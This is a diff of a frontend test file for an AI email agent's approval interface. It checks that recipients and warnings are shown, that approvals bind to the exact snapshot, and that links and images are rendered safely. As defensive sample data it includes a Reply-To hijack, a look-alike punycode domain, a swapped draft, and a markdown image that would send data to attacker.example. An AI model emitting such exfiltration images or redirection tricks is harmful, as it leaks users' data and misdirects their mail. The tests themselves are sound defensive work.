@@ -4,7 +4,7 @@ import userEvent from '@testing-library/user-event'
 import type { LiveEvent } from '@/lib/live-socket'
 import { apiError, envelope, mockApi, type SeenRequest } from '@/test/fetch-mock'
 import { renderWithApp } from '@/test/render'
-import type { AgentTurn, PendingAction } from '../types/agent'
+import type { ActionCard, AgentTurn, PendingAction } from '../types/agent'
 import { AgentPage } from './agent-page'
 
 const live = vi.hoisted(() => ({ listeners: new Set<(event: LiveEvent) => void>() }))
@@ -23,7 +23,36 @@ function emit(type: string, data: Record<string, unknown>) {
 
 const NOW = '2026-11-26T10:00:00Z'
 
-function pendingSend(overrides: Partial<PendingAction> = {}): PendingAction {
+const HASH = 'a'.repeat(64)
+
+function card(overrides: Partial<ActionCard> = {}): ActionCard {
+  return {
+    title: "Send an email: 'Offsite'",
+    recipients: [
+      { field: 'to', address: 'bob@northwind.example', ascii_address: 'bob@northwind.example', name: 'Bob', flags: [], flag_texts: [] },
+      {
+        field: 'cc',
+        address: 'carol@contoso.example',
+        ascii_address: 'carol@contoso.example',
+        name: '',
+        flags: ['first_contact', 'outside_organisation'],
+        flag_texts: ['never written to before', 'outside your organisation'],
+      },
+    ],
+    fields: [
+      { label: 'From', value: 'me@northwind.example' },
+      { label: 'Subject', value: 'Offsite' },
+    ],
+    body: 'Hi Bob,\n\n  I am in.\nSee you there',
+    html_body: null,
+    attachments: [],
+    items: [],
+    notes: [],
+    ...overrides,
+  }
+}
+
+function pendingSend(overrides: Partial<PendingAction> = {}, hash = HASH, cardOverrides: Partial<ActionCard> = {}): PendingAction {
   return {
     id: 'a1',
     conversation_id: 'c1',
@@ -34,8 +63,11 @@ function pendingSend(overrides: Partial<PendingAction> = {}): PendingAction {
       subject: 'Offsite',
       body: 'Hi Bob,\n\n  I am in.\nSee you there',
     },
-    summary: "Send 'Offsite' to bob@northwind.example, carol@contoso.example",
+    snapshot: { hash, kind: 'mail.send', card: card(cardOverrides), effect: {} },
+    source_changed: false,
+    summary: "Send an email: 'Offsite'",
     status: 'pending',
+    version: 1,
     created_at: NOW,
     decided_at: null,
     result: {},
@@ -128,7 +160,8 @@ describe('AgentPage', () => {
 
     expect(await within(log).findByText('2', { selector: 'strong' })).toBeInTheDocument()
     expect(within(log).getByText('Offsite agenda').tagName).toBe('LI')
-    const link = within(log).getByRole('link', { name: 'the doc' })
+    const link = within(log).getByRole('link', { name: /the doc/ })
+    expect(link).toHaveTextContent('the doc(example.com)') // the link says where it really goes
     expect(link).toHaveAttribute('target', '_blank')
     expect(link).toHaveAttribute('rel', expect.stringContaining('noopener'))
     expect(log.querySelector('b')).toBeNull()
@@ -153,7 +186,7 @@ describe('AgentPage', () => {
     expect(seen.find((r) => r.method === 'POST')?.body).toMatchObject({ message: 'line one\nline two' })
   })
 
-  it('shows recipients, subject and the whole body of a pending action and approves it once on a double click', async () => {
+  it('shows every recipient with its flags, the fields and the whole body, and approves that snapshot once on a double click', async () => {
     let resolveApprove: (response: Response) => void = () => undefined
     const seen = baseRoutes({
       'GET /api/v1/agent/conversations/c1': () => envelope(conversation([pendingSend()])),
@@ -161,8 +194,13 @@ describe('AgentPage', () => {
     })
     renderAgent('/agent/c1')
     const card = await screen.findByRole('article', { name: 'Send an email' })
-    expect(within(card).getByText('bob@northwind.example')).toBeInTheDocument()
-    expect(within(card).getByText('carol@contoso.example')).toBeInTheDocument()
+    const recipients = within(card).getByRole('list', { name: 'Recipients' })
+    expect(recipients).toHaveTextContent('To: Bob <bob@northwind.example>')
+    expect(recipients).toHaveTextContent('Cc: <carol@contoso.example>')
+    const warnings = within(card).getByRole('list', { name: 'Warnings about carol@contoso.example' })
+    expect(warnings).toHaveTextContent('never written to before')
+    expect(warnings).toHaveTextContent('outside your organisation')
+    expect(within(card).queryByRole('list', { name: 'Warnings about bob@northwind.example' })).not.toBeInTheDocument()
     expect(within(card).getByText('Offsite')).toBeInTheDocument()
     const body = within(card).getByText(/Hi Bob,/)
     expect(body.textContent).toBe('Hi Bob,\n\n  I am in.\nSee you there')
@@ -173,31 +211,72 @@ describe('AgentPage', () => {
     expect(await screen.findByText('The agent is working…')).toBeInTheDocument()
     resolveApprove(
       envelope({
-        action: pendingSend({ status: 'executed', decided_at: NOW, result: { sent: true } }),
+        action: pendingSend({ status: 'executed', decided_at: NOW, result: { sent: true }, version: 3 }),
         turn: turn({ reply: 'Sent.' }),
       }),
     )
     expect(await within(approvalCard('Send an email')).findByText('Approved — sent.')).toBeInTheDocument()
     expect(within(screen.getByRole('log')).getByText('Sent.')).toBeInTheDocument()
     expect(within(approvalCard('Send an email')).queryByRole('button', { name: 'Approve' })).not.toBeInTheDocument()
-    expect(seen.filter((r) => r.method === 'POST' && r.path.endsWith('/approve'))).toHaveLength(1)
+    const approvals = seen.filter((r) => r.method === 'POST' && r.path.endsWith('/approve'))
+    expect(approvals).toHaveLength(1)
+    expect(approvals[0]?.body).toEqual({ snapshot_hash: HASH }) // exactly the snapshot the card showed
   })
 
-  it('approves an edited payload from the Edit dialog and shows the server validation error there', async () => {
+  it('shows the Reply-To flag and the Cc added by reply-all', async () => {
+    const reply = pendingSend({ tool: 'reply', payload: { message_id: 'm1', body: 'ok', reply_all: true } }, HASH, {
+      title: "Reply to all on 'Audit' from Julie <julie@northwind.example>",
+      recipients: [
+        { field: 'to', address: 'x@evil.example', ascii_address: 'x@evil.example', name: '', flags: ['reply_to'], flag_texts: ['not the sender of the mail you are replying to (Reply-To)'] },
+        { field: 'cc', address: 'audit@evil.example', ascii_address: 'audit@evil.example', name: '', flags: ['reply_all'], flag_texts: ['added by reply-all'] },
+        {
+          field: 'cc',
+          address: 'kim@nоrthwind.example',
+          ascii_address: 'kim@xn--nrthwind-nbh.example',
+          name: 'Kim',
+          flags: ['reply_all', 'lookalike_domain'],
+          flag_texts: ['added by reply-all', 'the domain looks like another one (look-alike characters)'],
+        },
+      ],
+      notes: ['The mail you are replying to asks for answers to go to x@evil.example (its Reply-To), not to its sender Julie.'],
+    })
+    baseRoutes({ 'GET /api/v1/agent/conversations/c1': () => envelope(conversation([reply])) })
+    renderAgent('/agent/c1')
+    const card = await screen.findByRole('article', { name: 'Reply to all' })
+    expect(within(card).getByRole('list', { name: 'Warnings about x@evil.example' })).toHaveTextContent('(Reply-To)')
+    expect(within(card).getByRole('list', { name: 'Warnings about audit@evil.example' })).toHaveTextContent('added by reply-all')
+    expect(within(card).getByRole('list', { name: 'Recipients' })).toHaveTextContent('Cc: <audit@evil.example>')
+    expect(within(card).getByRole('list', { name: 'Notes' })).toHaveTextContent('its Reply-To')
+    // a homoglyph domain is also shown as what mail systems carry: punycode
+    expect(within(card).getByRole('list', { name: 'Recipients' })).toHaveTextContent('Cc: Kim <kim@nоrthwind.example> (really kim@xn--nrthwind-nbh.example)')
+  })
+
+  it('turns an edit into a new card to approve, and shows the server validation error in the dialog', async () => {
     let attempts = 0
+    const revisedHash = 'b'.repeat(64)
     const seen = baseRoutes({
       'GET /api/v1/agent/conversations/c1': () => envelope(conversation([pendingSend()])),
-      'POST /api/v1/agent/actions/a1/approve': () => {
+      'POST /api/v1/agent/actions/a1/edit': () => {
         attempts += 1
         if (attempts === 1) return apiError(422, 'validation_failed', 'The edited payload is not valid: to[0] must not be empty.', [{ field: 'payload' }])
-        return envelope({ action: pendingSend({ status: 'executed', result: { sent: true } }), turn: turn({ reply: 'Sent the edited mail.' }) })
+        return envelope(
+          pendingSend({ version: 2, summary: "Send an email: 'Offsite: yes'" }, revisedHash, {
+            title: "Send an email: 'Offsite: yes'",
+            recipients: [
+              { field: 'to', address: 'bob@northwind.example', ascii_address: 'bob@northwind.example', name: '', flags: [], flag_texts: [] },
+              { field: 'to', address: 'dave@example.com', ascii_address: 'dave@example.com', name: '', flags: ['first_contact'], flag_texts: ['never written to before'] },
+            ],
+          }),
+        )
       },
+      'POST /api/v1/agent/actions/a1/approve': () =>
+        envelope({ action: pendingSend({ status: 'executed', result: { sent: true }, version: 3 }, revisedHash), turn: turn({ reply: 'Sent the edited mail.' }) }),
     })
     renderAgent('/agent/c1')
     const user = userEvent.setup()
     const card = await screen.findByRole('article', { name: 'Send an email' })
     await user.click(within(card).getByRole('button', { name: 'Edit' }))
-    const dialog = screen.getByRole('dialog', { name: 'Edit before approving: Send an email' })
+    const dialog = screen.getByRole('dialog', { name: 'Edit: Send an email' })
     const to = within(dialog).getByLabelText('To')
     expect(to).toHaveValue('bob@northwind.example')
     await user.clear(to)
@@ -206,18 +285,25 @@ describe('AgentPage', () => {
     await user.clear(subject)
     await user.type(subject, 'Offsite: yes')
     await user.clear(within(dialog).getByLabelText('Cc'))
-    await user.click(within(dialog).getByRole('button', { name: 'Approve edited' }))
+    await user.click(within(dialog).getByRole('button', { name: 'Show the edited version' }))
 
     expect(await within(dialog).findByRole('alert')).toHaveTextContent('The edited payload is not valid')
-    await user.click(within(dialog).getByRole('button', { name: 'Approve edited' }))
-    expect(await screen.findByText('Sent the edited mail.')).toBeInTheDocument()
-    expect(screen.queryByRole('dialog')).not.toBeInTheDocument()
+    await user.click(within(dialog).getByRole('button', { name: 'Show the edited version' }))
+    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument())
+    // nothing ran: the new card waits, showing the new recipient and its flag
+    const revised = approvalCard('Send an email')
+    expect(await within(revised).findByText("Send an email: 'Offsite: yes'")).toBeInTheDocument()
+    expect(within(revised).getByRole('list', { name: 'Warnings about dave@example.com' })).toHaveTextContent('never written to before')
+    expect(seen.filter((r) => r.path.endsWith('/approve'))).toHaveLength(0)
 
-    const approvals = seen.filter((r) => r.path === '/api/v1/agent/actions/a1/approve')
-    expect(approvals).toHaveLength(2)
-    expect(approvals[1]?.body).toEqual({
+    await user.click(within(revised).getByRole('button', { name: 'Approve' }))
+    expect(await screen.findByText('Sent the edited mail.')).toBeInTheDocument()
+    const edits = seen.filter((r) => r.path === '/api/v1/agent/actions/a1/edit')
+    expect(edits).toHaveLength(2)
+    expect(edits[1]?.body).toEqual({
       payload: { to: ['bob@northwind.example', 'dave@example.com'], subject: 'Offsite: yes', body: 'Hi Bob,\n\n  I am in.\nSee you there' },
     })
+    expect(seen.find((r) => r.path.endsWith('/approve'))?.body).toEqual({ snapshot_hash: revisedHash })
   })
 
   it('rejects and shows the agent follow-up', async () => {
@@ -258,10 +344,23 @@ describe('AgentPage', () => {
     expect(await screen.findByText('I need your approval first.')).toBeInTheDocument()
     expect(screen.queryByRole('article')).not.toBeInTheDocument()
 
-    pending = [pendingSend({ id: 'a9', tool: 'trash', payload: { message_ids: ['m1', 'm2'] }, summary: 'Move 2 message(s) to the trash' })]
-    emit('agent.action_pending', { conversation_id: 'c1', tool: 'trash', status: 'pending', summary: 'Move 2 message(s) to the trash', pending_action_id: 'a9' })
+    pending = [
+      pendingSend({ id: 'a9', tool: 'trash', payload: { message_ids: ['m1', 'm2'] }, summary: 'Move 2 messages to the trash' }, HASH, {
+        title: 'Move 2 messages to the trash',
+        recipients: [],
+        fields: [],
+        body: null,
+        items: [
+          { label: 'Invoice 42', detail: 'from Ann <ann@example.com> · id m1' },
+          { label: 'Lunch', detail: 'from Bo <bo@example.com> · id m2' },
+        ],
+      }),
+    ]
+    emit('agent.action_pending', { conversation_id: 'c1', tool: 'trash', status: 'pending', summary: 'Move 2 messages to the trash', pending_action_id: 'a9' })
     const card = await screen.findByRole('article', { name: 'Move to trash' })
-    expect(within(card).getByText('2 (m1, m2)')).toBeInTheDocument()
+    const affected = within(card).getByRole('list', { name: 'Affected' })
+    expect(affected).toHaveTextContent('Invoice 42 — from Ann <ann@example.com> · id m1')
+    expect(affected).toHaveTextContent('Lunch — from Bo <bo@example.com> · id m2')
     expect(within(card).getByRole('button', { name: 'Approve' })).toBeEnabled()
     expect(within(card).queryByRole('button', { name: 'Edit' })).not.toBeInTheDocument()
   })
@@ -284,26 +383,43 @@ describe('AgentPage', () => {
     expect(await screen.findByText('Here is the summary.')).toBeInTheDocument()
   })
 
-  it('shows the contents of a draft a pending send would send', async () => {
-    const draftSend = pendingSend({ payload: { draft_id: 'r1' }, summary: "Send the draft 'Re: Offsite' to bob@northwind.example" })
+  it('says when the draft changed after its send was held, and offers the new version as a new card', async () => {
+    const draftSend = pendingSend({ payload: { draft_id: 'r1' }, source_changed: true }, HASH, { title: "Send the draft 'Re: Offsite'" })
+    const newer = pendingSend({ payload: { draft_id: 'r1' }, version: 2 }, 'c'.repeat(64), {
+      title: "Send the draft 'Re: Offsite'",
+      recipients: [{ field: 'to', address: 'evil@evil.example', ascii_address: 'evil@evil.example', name: '', flags: ['first_contact'], flag_texts: ['never written to before'] }],
+      body: 'Swap changed',
+    })
     const seen = baseRoutes({
       'GET /api/v1/agent/conversations/c1': () => envelope(conversation([draftSend])),
-      'GET /api/v1/emails/draft/r1': () =>
-        envelope({
-          id: 'r1',
-          message: {
-            id: 'm5', thread_id: 't', from: null, to: [{ name: 'Bob', address: 'bob@northwind.example' }], cc: [], bcc: [], reply_to: [],
-            subject: 'Re: Offsite', snippet: '', date: NOW, label_ids: ['DRAFT'], unread: false, starred: false, has_attachments: false,
-            text_body: 'I am in\n', html: null, attachments: [], message_id_header: null, in_reply_to: null,
-          },
-        }),
+      'POST /api/v1/agent/actions/a1/edit': () => envelope(newer),
     })
     renderAgent('/agent/c1')
     const card = await screen.findByRole('article', { name: 'Send an email' })
-    expect(await within(card).findByText('Bob <bob@northwind.example>')).toBeInTheDocument()
-    expect(within(card).getByText('Re: Offsite')).toBeInTheDocument()
-    expect(within(card).queryByRole('button', { name: 'Edit' })).not.toBeInTheDocument()
-    expect(seen.some((r) => r.path === '/api/v1/emails/draft/r1')).toBe(true)
+    expect(within(card).getByRole('status')).toHaveTextContent('Approving sends the version shown here')
+    expect(within(card).queryByRole('button', { name: 'Edit' })).not.toBeInTheDocument() // a draft is changed in Drafts
+    const user = userEvent.setup()
+    await user.click(within(card).getByRole('button', { name: 'Show the new version' }))
+    expect(await within(approvalCard('Send an email')).findByText('Swap changed')).toBeInTheDocument()
+    expect(within(approvalCard('Send an email')).getByRole('list', { name: 'Recipients' })).toHaveTextContent('evil@evil.example')
+    expect(seen.find((r) => r.path === '/api/v1/agent/actions/a1/edit')?.body).toEqual({})
+    expect(seen.filter((r) => r.path.endsWith('/approve'))).toHaveLength(0)
+  })
+
+  it('never loads an image from an answer: it is a link that names the host it would go to', async () => {
+    baseRoutes({
+      'POST /api/v1/agent/chat': () =>
+        envelope(turn({ reply: 'Subject: ![x](https://attacker.example/p.png?d=493021) and [bank](https://evil.example/login)' })),
+    })
+    renderAgent()
+    const user = userEvent.setup()
+    await user.type(screen.getByLabelText('Message the agent'), 'find mail{Enter}')
+    const log = screen.getByRole('log')
+    const image = await within(log).findByRole('link', { name: /Image “x”/ })
+    expect(image).toHaveTextContent('not loaded; opens attacker.example')
+    expect(image).toHaveAttribute('href', 'https://attacker.example/p.png?d=493021')
+    expect(log.querySelector('img')).toBeNull()
+    expect(within(log).getByRole('link', { name: /bank/ })).toHaveTextContent('bank(evil.example)')
   })
 
   it('keeps the typed text and explains a 429', async () => {
